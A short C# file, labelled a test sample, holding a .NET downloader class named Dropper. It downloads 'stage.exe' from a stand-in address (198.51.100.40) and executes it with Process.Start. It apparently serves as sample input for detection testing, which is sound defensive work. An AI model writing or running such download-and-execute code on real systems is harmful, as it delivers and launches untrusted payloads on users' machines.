// Test sample: a .NET downloader (WebClient.DownloadFile, then Process.Start).
using System.Diagnostics;
using System.Net;

class Dropper {
    static void Main() {
        using (var c = new WebClient()) {
            c.DownloadFile("http://198.51.100.40/stage.exe", "stage.exe");
        }
        Process.Start("stage.exe");
    }
}
